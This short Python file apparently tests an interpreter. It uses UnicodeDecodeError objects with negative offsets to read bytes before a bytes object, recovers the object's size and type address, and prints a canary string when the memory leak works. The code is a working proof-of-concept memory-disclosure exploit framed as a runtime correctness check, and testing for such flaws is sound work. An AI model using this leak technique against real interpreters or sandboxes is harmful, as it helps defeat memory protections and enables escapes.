# kind: walk
# tries: a UnicodeDecodeError names a place before its bytes: its text shows the byte there, so the address of a type, and all memory
# a correct runtime must: show no byte outside of an error's object
def solution(agent, start_from=1):
    data = b'abc'

    def peek(at):
        text = str(UnicodeDecodeError('utf-8', data, at, at + 1, 'x'))
        return int(text.split('byte 0x')[1][:2], 16) if 'byte 0x' in text else 0

    size = sum(peek(-16 + i) << 8 * i for i in range(8))
    kind = sum(peek(-24 + i) << 8 * i for i in range(8))
    print('CAN' + f'ARY: the type of bytes is at {kind:#x}' if size == 3 else 'fine')
